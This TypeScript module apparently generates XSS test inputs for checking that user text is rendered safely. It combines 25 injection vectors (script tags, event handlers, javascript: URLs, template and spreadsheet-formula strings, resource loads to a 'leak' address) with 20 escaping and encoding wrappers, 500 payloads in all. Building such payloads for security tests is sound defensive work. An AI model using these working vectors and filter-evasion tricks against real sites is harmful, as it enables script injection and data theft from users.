/**
 * What people try to put where text goes. Each one, if it were taken for markup or code, calls `__xss`, or loads
 * something from `leak`.
 */
const VECTORS: readonly ((call: string, leak: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" autofocus tabindex=1 onfocus=${call}>x</a>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<template><img src=x onerror=${call}></template><img src=y onerror=${call}>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (_, leak) => `<style>@import "${leak}";*{background:url(${leak})}</style>`,
  (_, leak) => `<link rel=stylesheet href="${leak}">`,
  (_, leak) => `<div style="background:url(${leak})">x</div>`,
  (_, leak) => `<img src="${leak}" srcset="${leak} 2x">`,
  (_, leak) => `<object data="${leak}"></object><embed src="${leak}">`,
  (call, leak) => `<form action="${leak}"><button autofocus onfocus=${call}>x</button></form>`,
  (_, leak) => `<meta http-equiv=refresh content="0;url=${leak}"><base href="${leak}/">`,
  (call) => `{{constructor.constructor('${call}')()}}\${${call}}<%= ${call} %>#{${call}}`,
  (call) => `javascript:${call}//data:text/html,<script>${call}</script>`,
  (call, leak) => `=HYPERLINK("${leak}","x");url(javascript:${call})`,
];

const entities = (text: string) => text.replace(/[<>"']/g, (sign) => `&#${sign.codePointAt(0)};`);

/** Where the text might land, or what might be done to it on the way. */
const SURROUNDINGS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title></style></script>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `]]>${vector}`,
  (vector) => `" ${vector} x="`,
  (vector) => entities(vector),
  (vector) => entities(entities(vector)),
  (vector) => vector.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (vector) => encodeURIComponent(vector),
  (vector) => vector.replaceAll('=', '\u200b=').replace('<', '\u202e<'),
  (vector) => vector.toUpperCase().replaceAll('__XSS', '__xss'),
  (vector) => vector.replaceAll(' ', '/'),
  (vector) => `<svg><foreignObject>${vector}</foreignObject></svg>`,
  (vector) => `<noscript><p title="</noscript>${vector}">`,
  (vector) => `a","b\n${vector}`,
  (vector) => `\u0000${vector}`.replace('\u0000', '\ufffd'),
];

/** 500 of them. @param leak an address that nobody asks for but a payload that works */
export function payloads(leak: string): string[] {
  return SURROUNDINGS.flatMap((around, at) =>
    VECTORS.map((vector, index) => {
      const id = at * VECTORS.length + index;
      return around(vector(`__xss(${id})`, `${leak}/${id}`));
    }),
  );
}

/** The same text with nothing in it that means anything anywhere. */
export const harmless = (payload: string): string => payload.replace(/[^\p{L}\p{N}\s]/gu, 'x');
